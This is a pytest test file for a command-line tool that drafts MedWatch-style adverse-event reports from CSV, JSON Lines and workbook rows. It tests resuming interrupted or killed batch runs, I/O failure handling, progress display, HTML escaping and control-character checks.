    """A line too long to be a row (a broken export, a file with no line breaks) is skipped in
    pieces, never loaded whole, and reported at its row; the rows around it are drafted."""
    rows = example_rows()
    src = tmp_path / f"long.{fmt}"
    if fmt == "csv":
        write_csv(src, rows)
        lines = src.read_bytes().splitlines(keepends=True)
    else:
        lines = [json.dumps(nest(r)).encode() + b"\n" for r in rows]
    monster = b'"' + b"x" * (17 * 1024 * 1024) + b"\n"  # an unclosed quote, too
    src.write_bytes(b"".join(lines[:2]) + monster + b"".join(lines[2:]))
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "2"])
    assert result.exit_code == 1, result.output
    assert "3 drafted, 1 with errors" in result.output
    [problem] = read_problems(tmp_path / "o")  # CSV: header, row 2, then row 3; JSONL: line 3
    assert problem["row"] == "3" and problem["severity"] == "error"
    assert "longer than 16 MB on one line" in problem["message"]


def test_stdin_and_csv_template(runner, tmp_path):
    template = runner.invoke(main, ["fields", "--csv-template"]).output
    header = template.strip().split(",")
    assert header[0] == "admin/report_id" and "suspect_product[1]/route" in header and "device[1]/udi" in header
    src = write_csv(tmp_path / "e.csv", example_rows())
    result = runner.invoke(main, ["batch", "-", "--out", str(tmp_path / "o"), "--jobs", "1"],
                           input=src.read_bytes())
    assert result.exit_code == 0 and "3 drafted, 0 with errors" in result.output


@pytest.mark.parametrize("args, said", [
    (["--csv-template", "--format", "json"], "--csv-template prints a CSV header row of field paths: leave out --format"),
    (["--jsonl-template", "--format", "csv"], "--jsonl-template prints a JSON Lines record of the same fields: leave "
                                              "out --format"),
    (["--csv-template", "--jsonl-template"], "--csv-template and --jsonl-template: give one of them"),
])
def test_a_template_refuses_another_format(runner, args, said):
    """A template is printed in its own format: a --format asked for alongside is refused, not ignored."""
    result = runner.invoke(main, ["fields", *args])
    assert result.exit_code == 2 and result.stdout == ""
    assert f"Error: {said}" in result.output


def test_jsonl_template_is_a_record_of_every_field_that_drafts_once_filled(runner, tmp_path):
    """The JSON Lines template holds every field of the CSV template, nested as JSON Lines input
    nests them; left in the file as it is, it is no row (said in a note), and a copy filled
    in is drafted."""
    template = json.loads(runner.invoke(main, ["fields", "--jsonl-template"]).stdout)
    assert sorted(flatten(template)) == sorted(runner.invoke(main, ["fields", "--csv-template"]).stdout.strip()
                                               .split(","))
    row = example_rows()[0]
    filled = flatten(template)
    filled.update(row)
    src = tmp_path / "events.jsonl"
    src.write_text(json.dumps(template) + "\n" + json.dumps(nest(filled)) + "\n", encoding="utf-8")
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert "1 drafted, 0 with errors" in result.output
    assert "line 1 gave no value in any field (as `medwatch fields --jsonl-template` writes its record)" in result.output
    assert [p.name for p in (tmp_path / "o").glob("*.xml")] == [f"{row['admin/report_id']}.xml"]


def test_rerun_without_resume_is_refused(runner, tmp_path):
    src = write_csv(tmp_path / "e.csv", example_rows())
    out = tmp_path / "o"
    assert runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"]).exit_code == 0
    again = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert again.exit_code == 2 and again.output == (  # a usage error (--resume missing), as --help says
        f"Error: {out}: already holds a batch run: add --resume to finish it (a run that is done drafts nothing more, "
        "and --resume says so), --update to draft a corrected input into it again, or choose another --out\n")
    resumed = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--resume"])
    assert resumed.exit_code == 0 and "3 drafted, 0 with errors" in resumed.output and "3 rows done by an earlier run" in resumed.output


def test_resume_refuses_an_input_that_changed_since_the_run_began(runner, tmp_path):
    """Rows corrected after a run, then --resume: before, every journaled row was skipped
    by its number and the corrected ones were never read, without a word."""
    rows = example_rows()
    rows[1]["event/event_date"] = "2026-13-01"  # row 3 fails
    src = write_csv(tmp_path / "e.csv", rows)
    out = tmp_path / "o"
    first = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert first.exit_code == 1 and "2 drafted, 1 with errors" in first.output
    drafts = {p.name: p.read_bytes() for p in out.iterdir()}
    rows[1]["event/event_date"] = "2026-10-01"  # corrected
    write_csv(src, rows)
    resumed = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--resume"])
    assert resumed.exit_code == 1
    assert resumed.output.startswith(f"Error: {src}: has changed since the batch run in {out} began (its content "
                                     "differs from the file the run began with; rows added at its end would be fine)")
    assert "--resume only finishes a run on the same input, and would skip rows it never read. To draft " \
           "the changed file into this folder, run it with --update instead" in resumed.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == drafts  # nothing touched
    fresh = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "fresh"), "--jobs", "1"])
    assert fresh.exit_code == 0 and "3 drafted, 0 with errors" in fresh.output
    # the same file, unchanged, resumes; piped in, it cannot be compared with the file: refused
    same = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "fresh"), "--jobs", "1", "--resume"])
    assert same.exit_code == 0 and "3 rows done by an earlier run" in same.output
    piped = runner.invoke(main, ["batch", "-", "--out", str(out), "--jobs", "1", "--resume"], input=src.read_bytes())
    assert piped.exit_code == 2 and "it began on a file, and standard input cannot be compared with it" in piped.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == drafts
    write_csv(src, rows[:2])  # cut short
    short = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "fresh"), "--jobs", "1", "--resume"])
    assert short.exit_code == 1 and "(it is shorter than when the run began: " in short.output


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes")
def test_a_named_pipe_is_read_once_through(console_script, runner, tmp_path):
    """`medwatch batch <(gunzip -c events.csv.gz)` hands over a pipe by name: before,
    'unexpected UnsupportedOperation: File or stream is not seekable'."""
    import threading

    src = write_csv(tmp_path / "e.csv", example_rows())
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    # (a daemon: if the command failed before opening the pipe, the writer would wait forever)
    feeder = threading.Thread(target=lambda: fifo.write_bytes(src.read_bytes()), daemon=True)
    feeder.start()
    done = subprocess.run([str(console_script), "batch", str(fifo), "--out", str(tmp_path / "o"), "--jobs", "2"],
                          capture_output=True, text=True, timeout=120)
    feeder.join(timeout=10)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "3 drafted, 0 with errors, 0 warnings\n"
    assert runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "ref"), "--jobs", "1"]).exit_code == 0
    for draft in (tmp_path / "ref").glob("*.xml"):
        assert (tmp_path / "o" / draft.name).read_bytes() == draft.read_bytes()


@pytest.mark.skipif(not os.path.exists("/proc/self/fd"), reason="tells the journal's descriptor by /proc/self/fd")
def test_a_journal_that_fails_on_close_stops_the_run_with_one_message(runner, tmp_path, monkeypatch):
    """Network file systems may report a lost write only when the file is closed (EIO)."""
    import errno

    real_close = os.close

    def close(fd):
        journal = os.readlink(f"/proc/self/fd/{fd}").endswith(".medwatch-batch.jsonl")
        real_close(fd)
        if journal:
            raise OSError(errno.EIO, os.strerror(errno.EIO))

    src = write_csv(tmp_path / "e.csv", mixed_rows())
    out = tmp_path / "o"
    monkeypatch.setattr(os, "close", close)
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    monkeypatch.undo()
    assert result.exit_code == 1, result.output
    assert "unexpected" not in result.output
    assert re.search(r"Error: \S+\.medwatch-batch\.jsonl: cannot write \(Input/output error\)\nstopped: ", result.output)
    # the rows with errors were counted, but not recorded: problems.csv is not said to list them
    assert "2 with errors" in result.output and "for the row, field and box of each problem" not in result.output
    assert "problems.csv lists the problems of the rows recorded; --resume drafts the others again" in result.output


def test_journal_lines_are_what_json_writes():
    """Rows without problems get their journal line formatted directly; it must read back
    (and be found by problems.csv's quick filter) exactly like json.dumps's."""
    from medwatch_tool.journal import _NO_PROBLEMS, journal_line
    from medwatch_tool.outcomes import Outcome

    problem = {"row": 7, "report_id": "x", "path": "", "box": "", "label": "", "severity": "error",
               "message": 'a "quoted" message', "rule": ""}
    for outcome in [Outcome(2, "R1.xml", "R1", [], "R1.xml"), Outcome(3, None, "", [], "row-000003.xml"),
                    Outcome(4, "Ünïcode \"q\" \\ \u2028.xml", "Ünïcode \"q\"", [], "Ünïcode \"q\" \\ \u2028.xml"),
                    Outcome(5, None, "R5", [problem], "R5.xml"), Outcome(6, "x.xml", "x", [], "")]:
        entry = {"row": outcome.row, "file": outcome.file, "report_id": outcome.report_id, "problems": outcome.problems}
        if outcome.name and not outcome.name.startswith("row-"):
            entry["name"] = outcome.name
        line = journal_line(outcome)
        assert line == json.dumps(entry, ensure_ascii=False)
        assert (_NO_PROBLEMS in line) == (not outcome.problems)


def numbered_rows(n):
    """n rows cycling through mixed_rows(), each with its own report id R00000, R00001, ..."""
    base = mixed_rows()
    return [dict(base[i % len(base)], **{"admin/report_id": f"R{i:05d}"}) for i in range(n)]


def started_batch(console_script, src, out, jobs="2", journaled=1, **popen):
    """`medwatch batch SRC --out OUT` started as its own process, returned once its journal
    holds `journaled` bytes (rows are being drafted): to be killed, stopped or raced."""
    options = dict(stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    options.update(popen)
    proc = subprocess.Popen([str(console_script), "batch", str(src), "--out", str(out), "--jobs", jobs], **options)
    wait_for_journal(out, journaled)
    return proc


def wait_for_journal(out, size=1):
    """Until the run into `out` has journaled `size` bytes (rows are being drafted), a minute at most."""
    journal = out / ".medwatch-batch.jsonl"
    deadline = time.time() + 60
    while time.time() < deadline and (not journal.exists() or journal.stat().st_size < size):
        time.sleep(0.01)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the kernel's parent-death signal is Linux's")
def test_a_killed_runs_workers_end_with_it(console_script, tmp_path):
    """`kill -9` of a run (or the out-of-memory killer) ends its workers too: no draft is
    written after the run died, and the folder is free at once for `--resume`."""
    import fcntl

    src = write_csv(tmp_path / "big.csv", numbered_rows(3000))
    out = tmp_path / "o"
    proc = started_batch(console_script, src, out, journaled=20000)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    drafts_then = sorted(p.name for p in out.glob("*.xml"))
    time.sleep(1)
    assert sorted(p.name for p in out.glob("*.xml")) == drafts_then
    with open(out / ".medwatch-batch.lock", "a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)  # (raises BlockingIOError while a worker holds it)


def test_killed_run_resumes_without_duplicates(console_script, tmp_path):
    base = mixed_rows()
    rows = numbered_rows(3000)
    src = write_csv(tmp_path / "big.csv", rows)
    out = tmp_path / "o"
    proc = started_batch(console_script, src, out, journaled=20000)
    journal = out / ".medwatch-batch.jsonl"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    done_before = sum(1 for _ in journal.open())
    assert 0 < done_before < len(rows), "the run should have been killed mid-way"
    result = subprocess.run([str(console_script), "batch", str(src), "--out", str(out), "--jobs", "2", "--resume"],
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 1  # the error rows stay errors
    expected_errors = sum(1 for i in range(3000) if i % len(base) in (3, 4))
    assert f"{3000 - expected_errors} drafted, {expected_errors} with errors" in result.stdout
    assert len(list(out.glob("R*.xml"))) == 3000 - expected_errors
    problems = read_problems(out)
    keys = [(p["row"], p["path"], p["message"]) for p in problems]
    assert len(keys) == len(set(keys)), "a problem was written twice"
    errored_rows = {p["row"] for p in problems if p["severity"] == "error"}
    assert len(errored_rows) == expected_errors
    entries = [json.loads(line) for line in journal.open()]
    assert sorted(e["row"] for e in entries) == list(range(2, 3002))


def test_ctrl_c_stops_cleanly_and_resume_finishes(console_script, tmp_path):
    """Ctrl-C (SIGINT to the whole process group, as a terminal sends it) stops after the row
    in hand: exit 130, no traceback, a message with the command that finishes the run."""
    rows = numbered_rows(6000)
    src = write_csv(tmp_path / "big.csv", rows)
    out = tmp_path / "o"
    proc = started_batch(console_script, src, out, start_new_session=True)
    journal = out / ".medwatch-batch.jsonl"
    os.killpg(proc.pid, signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130, stderr
    assert "Traceback" not in stderr
    done = int(re.search(r"interrupted: the (\d+) rows done so far are kept; to finish: "
                         r"medwatch batch \S+big.csv --out \S+ --resume", stderr).group(1))
    assert 0 < done < len(rows)
    assert sum(1 for _ in journal.open()) == done  # every row it counts is journaled
    assert {int(p["row"]) for p in read_problems(out)} <= set(range(2, 2 + done))
    result = subprocess.run([str(console_script), "batch", str(src), "--out", str(out), "--jobs", "2", "--resume"],
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 1 and f"({done} rows done by an earlier run, counted in)" in result.stdout
    assert sorted(json.loads(line)["row"] for line in journal.open()) == list(range(2, 2 + len(rows)))


def test_ctrl_c_pressed_again_and_again_ends_quietly_and_resume_finishes(console_script, tmp_path):
    """A second Ctrl-C stops at once; more of them, pressed in a hurry, broke into the
    closing of the journal and the workers: tracebacks (multiprocessing's exit, workers.py)."""
    rows = numbered_rows(6000)
    src = write_csv(tmp_path / "big.csv", rows)
    out = tmp_path / "o"
    proc = started_batch(console_script, src, out, start_new_session=True)
    for _ in range(8):
        try:
            os.killpg(proc.pid, signal.SIGINT)
        except ProcessLookupError:
            break
        time.sleep(0.003)
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130, stderr
    assert "Traceback" not in stderr and "Aborted" not in stderr and "Exception ignored" not in stderr
    assert re.search(r"interrupted.*to finish: medwatch batch \S+big.csv --out \S+ --resume", stderr), stderr
    result = subprocess.run([str(console_script), "batch", str(src), "--out", str(out), "--resume"],
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 1, result.stderr
    assert sorted(json.loads(line)["row"] for line in (out / ".medwatch-batch.jsonl").open()) == \
        list(range(2, 2 + len(rows)))


@pytest.mark.parametrize("how", ["a name beginning with -", "standard input from a file"])
def test_the_command_printed_to_finish_an_interrupted_run_works_as_pasted(console_script, tmp_path, how):
    """`medwatch batch -x.csv ...` was taken for an option; `medwatch batch - ...` waited for
    rows typed at the terminal."""
    rows = numbered_rows(6000)
    src = write_csv(tmp_path / "-x.csv", rows)
    command = [str(console_script), "batch", "--out", "o", "--jobs", "2"]
    command, stdin = (command + ["--", src.name], None) if how.startswith("a name") else (command + ["-"], src.open("rb"))
    shell = dict(os.environ, PATH=f"{console_script.parent}{os.pathsep}{os.environ['PATH']}")
    proc = subprocess.Popen(command, cwd=tmp_path, stdin=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    wait_for_journal(tmp_path / "o")
    os.killpg(proc.pid, signal.SIGINT)
    stderr = proc.communicate(timeout=60)[1]
    assert proc.returncode == 130, stderr
    hint = re.search(r"to finish: (.+)", stderr).group(1)
    assert hint.startswith("medwatch batch ./-x.csv --out o" if how.startswith("a name") else "medwatch batch - --out o")
    finished = subprocess.run(["/bin/sh", "-c", hint], cwd=tmp_path, env=shell, capture_output=True, text=True,
                              timeout=300, stdin=subprocess.DEVNULL)
    assert finished.returncode == 1 and "rows done by an earlier run, counted in" in finished.stdout, finished.stderr
    journal = tmp_path / "o" / ".medwatch-batch.jsonl"
    assert sorted(json.loads(line)["row"] for line in journal.open()) == list(range(2, 2 + len(rows)))


@pytest.mark.skipif(not os.path.exists("/proc/self/fd"), reason="names standard input's file by /proc/self/fd")
def test_the_command_to_finish_names_no_file_deleted_since_it_was_read(console_script, tmp_path):
    """Standard input from a file deleted meanwhile (a shell's here-document): the command
    said `< '.../rows.csv (deleted)'`."""
    src = write_csv(tmp_path / "rows.csv", numbered_rows(6000))
    with src.open("rb") as rows:
        src.unlink()
        proc = subprocess.Popen([str(console_script), "batch", "-", "--out", str(tmp_path / "o")], stdin=rows,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    wait_for_journal(tmp_path / "o")
    os.killpg(proc.pid, signal.SIGINT)
    stderr = proc.communicate(timeout=60)[1]
    assert proc.returncode == 130, stderr
    assert stderr.rstrip().endswith(f"to finish: medwatch batch - --out {tmp_path / 'o'} --resume, giving it the "
                                    "same rows on standard input"), stderr


def children(pid):
    with open(f"/proc/{pid}/task/{pid}/children") as handle:
        return [int(p) for p in handle.read().split()]


@pytest.mark.skipif(not os.path.exists("/proc/self/task"), reason="finds the worker processes in /proc")
def test_a_killed_worker_stops_the_run_and_resume_finishes(console_script, tmp_path):
    """A worker killed from outside (the out-of-memory killer, `kill -9`) must not hang the
    run or lose its rows: the run stops with one message saying so, --resume finishes."""
    rows = numbered_rows(6000)
    src = write_csv(tmp_path / "big.csv", rows)
    out = tmp_path / "o"
    proc = started_batch(console_script, src, out)
    journal = out / ".medwatch-batch.jsonl"
    workers = children(proc.pid)
    assert len(workers) == 2
    os.kill(workers[0], signal.SIGKILL)
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 1, stderr
    assert "Traceback" not in stderr
    assert "Error: a worker process ended unexpectedly: it was ended by SIGKILL" in stderr
    done = int(re.search(r"stopped: the (\d+) rows recorded so far are kept; "
                         r"finish with: medwatch batch \S+big.csv --out \S+ --resume", stderr).group(1))
    assert 0 < done < len(rows)
    assert sum(1 for _ in journal.open()) == done
    result = subprocess.run([str(console_script), "batch", str(src), "--out", str(out), "--jobs", "2", "--resume"],
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 1 and f"({done} rows done by an earlier run, counted in)" in result.stdout
    assert sorted(json.loads(line)["row"] for line in journal.open()) == list(range(2, 2 + len(rows)))
    expected_errors = sum(1 for i in range(len(rows)) if i % 7 in (3, 4))
    assert len(list(out.glob("R*.xml"))) == len(rows) - expected_errors


def test_a_worker_that_cannot_start_stops_the_run_with_one_message(runner, tmp_path, monkeypatch):
    from medwatch_tool import batch

    def broken_start():
        raise RuntimeError("the rules could not be loaded")

    monkeypatch.setattr(batch, "warm_up", broken_start)  # the workers are forked with it
    src = write_csv(tmp_path / "e.csv", example_rows())
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "2"])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert ("Error: a worker process could not start: RuntimeError: the rules could not be loaded\n"
            "stopped: the 0 rows recorded so far are kept; finish with: medwatch batch") in result.output


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_an_input_that_fails_mid_run_stops_the_run_and_resume_finishes(runner, tmp_path, monkeypatch, jobs):
    """A disk or network error while reading (EIO): the rows read before it are drafted and
    kept, the message names the file and the last row read, and --resume finishes the run."""
    import errno

    from medwatch_tool import readers

    class FailingDisk:
        """The input's handle, failing for good after 120 lines."""

        def __init__(self, handle):
            self.handle, self.lines = handle, 0

        def readline(self, *args):
            self.lines += 1
            if self.lines > 120:
                raise OSError(errno.EIO, os.strerror(errno.EIO))
            return self.handle.readline(*args)

        def __getattr__(self, name):
            return getattr(self.handle, name)

    real_open = readers.open_source

    def failing_open(*args, **kwargs):
        source = real_open(*args, **kwargs)
        source.handle = FailingDisk(source.handle)
        return source

    src = write_csv(tmp_path / "e.csv", numbered_rows(300))
    out = tmp_path / "o"
    monkeypatch.setattr(readers, "open_source", failing_open)
    stopped = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", jobs])
    monkeypatch.undo()
    assert stopped.exit_code == 1, stopped.output
    assert "unexpected" not in stopped.output and "Traceback" not in stopped.output
    assert re.search(r"Error: \S+e\.csv: cannot be read after row 120 \(Input/output error\)\n"
                     r"stopped: the 119 rows recorded so far are kept; once the input can be read again, "
                     r"finish with: medwatch batch \S+e\.csv --out \S+ --resume", stopped.output)
    finished = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", jobs, "--resume"])
    assert "(119 rows done by an earlier run, counted in)" in finished.output
    entries = [json.loads(line) for line in (out / ".medwatch-batch.jsonl").open()]
    assert sorted(e["row"] for e in entries) == list(range(2, 302))  # every row once


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_an_output_folder_that_cannot_be_written_stops_the_run(console_script, tmp_path, jobs):
    """Disk full, a quota, a file-size limit: no row is to blame, so the run stops with one
    message and the command that finishes it; no row is marked failed, --resume completes."""
    import resource

    rows = numbered_rows(200)
    src = write_csv(tmp_path / "e.csv", rows)
    out = tmp_path / "o"
    command = [str(console_script), "batch", str(src), "--out", str(out), "--render", "html", "--jobs", jobs]

    def small_files():  # the HTML pages (17.5-22 kB) cannot be written: EFBIG; the name index (16 kB) can
        resource.setrlimit(resource.RLIMIT_FSIZE, (17000, 17000))

    stopped = subprocess.run(command, capture_output=True, text=True, timeout=120, preexec_fn=small_files)
    assert stopped.returncode == 1
    assert "Traceback" not in stopped.stderr and "unexpected" not in stopped.stderr
    assert "cannot write (File too large)" in stopped.stderr
    assert re.search(r"stopped: the 0 rows recorded so far are kept; make room \(or fix the folder\), "
                     r"then finish with: medwatch batch \S+e.csv --out \S+ --render html --resume", stopped.stderr)
    assert read_problems(out) == []  # not a problem of any row
    finished = subprocess.run(command + ["--resume"], capture_output=True, text=True, timeout=120)
    expected_errors = sum(1 for i in range(200) if i % 7 in (3, 4))
    assert finished.returncode == 1, finished.stderr
    assert f"{200 - expected_errors} drafted, {expected_errors} with errors" in finished.stdout
    entries = [json.loads(line) for line in (out / ".medwatch-batch.jsonl").open()]
    assert sorted(e["row"] for e in entries) == list(range(2, 202))
    assert len(list(out.glob("R*.html"))) == 200 - expected_errors


def test_progress_bar_only_on_a_terminal(console_script, tmp_path):
    pexpect = pytest.importorskip("pexpect")
    src = write_csv(tmp_path / "e.csv", example_rows())
    child = pexpect.spawn(str(console_script), ["batch", str(src), "--out", str(tmp_path / "tty"), "--jobs", "1"],
                          encoding="utf-8", timeout=60)
    child.expect(pexpect.EOF)
    assert "Drafting" in child.before and "3 drafted, 0 with errors" in child.before
    piped = subprocess.run([str(console_script), "batch", str(src), "--out", str(tmp_path / "pipe"), "--jobs", "1"],
                           capture_output=True, text=True, timeout=60)
    assert piped.returncode == 0
    assert "Drafting" not in piped.stdout + piped.stderr


def test_progress_bar_reaches_its_end_and_counts_rows_of_unknown_length(console_script, tmp_path):
    """A workbook's bar ended at 74% (its last bytes are no rows); standard input's showed
    '1/0', '2/0' with the bar full from the first row."""
    pexpect = pytest.importorskip("pexpect")
    openpyxl = pytest.importorskip("openpyxl")
    rows = example_rows()
    header = columns_of(rows)
    book = openpyxl.Workbook()
    book.active.append(header)
    for row in rows:
        book.active.append([row.get(h) for h in header])
    book.save(tmp_path / "e.xlsx")
    child = pexpect.spawn(str(console_script), ["batch", str(tmp_path / "e.xlsx"), "--out", str(tmp_path / "x")],
                          encoding="utf-8", timeout=60)
    child.expect(pexpect.EOF)
    assert re.findall(r"Drafting.*?(\d+)%", child.before)[-1] == "100", child.before
    src = write_csv(tmp_path / "e.csv", rows)
    child = pexpect.spawn("/bin/sh", ["-c", f"'{console_script}' batch - --out '{tmp_path / 'i'}' < '{src}'"],
                          encoding="utf-8", timeout=60)
    child.expect(pexpect.EOF)
    assert "3 drafted, 0 with errors" in child.before
    shown = re.findall(r"Drafting +\[[-#]*\] +([\d/]+)", child.before)
    assert shown and shown[-1] == "3" and not any("/" in count for count in shown), child.before


def _percentages(console_script, workbook, out, *options):
    pexpect = pytest.importorskip("pexpect")
    child = pexpect.spawn(str(console_script), ["batch", str(workbook), "--out", str(out), *options],
                          encoding="utf-8", timeout=120)
    child.expect(pexpect.EOF)
    assert "2000 drafted, 0 with errors" in child.before, child.before
    return [int(p) for p in re.findall(r"Drafting.*?(\d+)%", child.before)]


def test_a_workbook_s_progress_bar_follows_the_rows_of_its_sheet(console_script, tmp_path):
    """The bar counted the whole file's bytes: past a long sheet before it, the rows' sheet
    started at 80%; with a long sheet after it, the bar stood at 20% until the jump to 100%."""
    openpyxl = pytest.importorskip("openpyxl")
    import random

    rnd = random.Random(7)
    row = example_rows()[0]
    header = list(row)
    book = openpyxl.Workbook()
    events = book.active
    events.title = "Events"
    events.append(header)
    for i in range(2000):
        events.append([f"P-{i}" if h == "admin/report_id" else row[h] for h in header])
    notes = book.create_sheet("Readings")  # numbers are kept in the sheet: four times the rows' bytes
    for _ in range(2000):
        notes.append([rnd.random() for _ in range(50)])
    book.save(tmp_path / "first.xlsx")
    book.move_sheet("Readings", offset=-1)
    book.save(tmp_path / "second.xlsx")
    for workbook, options in [("first.xlsx", ()), ("second.xlsx", ("--sheet", "Events"))]:
        shown = _percentages(console_script, tmp_path / workbook, tmp_path / workbook.replace(".", "-"), *options)
        assert shown == sorted(shown) and shown[-1] == 100, (workbook, shown)
        assert any(25 <= p <= 75 for p in shown), (workbook, shown)  # it moves with the rows read


def test_resume_redrafts_a_row_whose_draft_was_lost(runner, tmp_path):
    """A power cut can keep a journal line but lose the draft file: --resume drafts it again."""
    rows = mixed_rows()
    src = write_csv(tmp_path / "e.csv", rows)
    out = tmp_path / "o"
    first = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert first.exit_code == 1
    before = (out / "problems.csv").read_text()
    (out / "WARN.xml").write_bytes(b"<?xml version='1.0'?>\n<report xmlns='urn:x-medwatch-tool:report:1'>")
    (out / "HUMAN.xml").unlink()
    again = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--resume"])
    assert "5 drafted, 2 with errors, 1 warning" in again.output
    assert "(5 rows done by an earlier run, counted in)" in again.output
    assert not [p for p in validate_file(out / "WARN.xml") if p.is_error]
    assert (out / "HUMAN.xml").exists()
    assert (out / "problems.csv").read_text() == before  # the redone row's warning is listed once


def test_resume_after_a_kill_mid_journal_line(runner, tmp_path):
    """A kill can leave the journal's last line half written: --resume drafts that row again
    and its entries stay readable, so the row's problems are listed exactly once."""
    rows = mixed_rows()
    rows.append(rows.pop(5))  # the row with a warning last: its journal line is the one cut
    src = write_csv(tmp_path / "e.csv", rows)
    out = tmp_path / "o"
    assert runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"]).exit_code == 1
    before = (out / "problems.csv").read_text()
    assert "WARN" in before
    journal = out / ".medwatch-batch.jsonl"
    data = journal.read_bytes()
    journal.write_bytes(data[:-40])  # killed while writing the last line
    again = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--resume"])
    assert again.exit_code == 1
    assert "5 drafted, 2 with errors, 1 warning (6 rows done by an earlier run, counted in)" in again.output
    entries = [json.loads(line) for line in journal.read_text().splitlines()]
    assert sorted(e["row"] for e in entries) == list(range(2, 2 + len(rows)))
    assert (out / "problems.csv").read_text() == before
    again = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--resume"])
    assert "(7 rows done by an earlier run, counted in)" in again.output


def test_batch_html_is_exactly_what_render_gives(runner, tmp_path):
    """Batch renders HTML through per-shape skeletons; each page must equal `medwatch render`'s."""
    rows = []
    for i in range(40):  # a few shapes, each several times, with values that need escaping
        row = dict(example_rows()[i % 3])
        row["admin/report_id"] = f"SHAPE-{i:03d}"
        row["event/description"] = f"Case {i}: <b>itch</b> & \"fever\" 'again'" + (" tall" * (i % 5))
        if i % 4 == 0:
            row["patient/weight"] = ""
        if i % 7 == 0:
            row["event/outcome"] = "hospitalization; required_intervention"
        rows.append(row)
    src = write_csv(tmp_path / "shapes.csv", rows)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--render", "html"])
    assert result.exit_code == 0, result.output
    pages = sorted(out.glob("*.html"))
    assert len(pages) == 40
    for page in pages:
        draft = page.with_suffix(".xml")
        expected = runner.invoke(main, ["render", "--to", "html", str(draft)])
        assert expected.exit_code == 0
        assert page.read_text(encoding="utf-8") == expected.output, page.name
    assert "&lt;b&gt;itch&lt;/b&gt; &amp; &#34;fever&#34; &#39;again&#39;" in pages[0].read_text(encoding="utf-8")


@pytest.mark.parametrize("to", ["html", "text"])
def test_a_vertical_tab_is_a_line_break_on_the_page_as_in_the_draft(runner, tmp_path, to):
    """FileMaker's line break (U+000B) is a line break in the draft; the batch's HTML page of a
    row that was not the first of its shape kept U+000B ('first linesecond line' in a browser)
    while `medwatch render` of the same draft showed two lines."""
    rows = [dict(example_rows()[0], **{"admin/report_id": f"V{i}"}) for i in (1, 2, 3)]
    rows[1]["event/description"] = "first line\x0bsecond line"
    rows[2]["event/description"] = "one\x0b\x0btwo & <three>"
    src = write_csv(tmp_path / "v.csv", rows)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1", "--render", to])
    assert result.exit_code == 0, result.output
    for name in ("V1", "V2", "V3"):
        page = (out / f"{name}.{'html' if to == 'html' else 'txt'}").read_text(encoding="utf-8")
        expected = runner.invoke(main, ["render", "--to", to, str(out / f"{name}.xml")])
        assert expected.exit_code == 0 and page == expected.output, name
        assert "\x0b" not in page
    broken = "first line\nsecond line" if to == "html" else "first line\n      second line"
    assert broken in (out / f"V2.{'html' if to == 'html' else 'txt'}").read_text(encoding="utf-8")


def test_control_character_is_a_problem_at_its_box(runner, tmp_path):
    """A control character no report can hold is refused at its box (it was a problem of the
    row as a whole); a vertical tab, FileMaker's line break inside a field, is a line break."""
    rows = example_rows()[:2]
    rows[1]["event/description"] = "pump alarm\x07 then silence"
    rows[0]["event/description"] = "Spasms returned.\x0bPump alarm at refill."
    src = write_csv(tmp_path / "ctl.csv", rows)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert result.exit_code == 1 and "1 drafted, 1 with errors" in result.output
    problem = read_problems(out)[0]
    assert (problem["row"], problem["path"], problem["box"]) == ("3", "event/description", "B5")
    assert problem["message"].startswith("contains the control character U+0007 (invisible, not text)")
    drafted = draft_values(read_draft(next(out.glob("*.xml"))))
    assert drafted["event/description"] == "Spasms returned.\nPump alarm at refill."


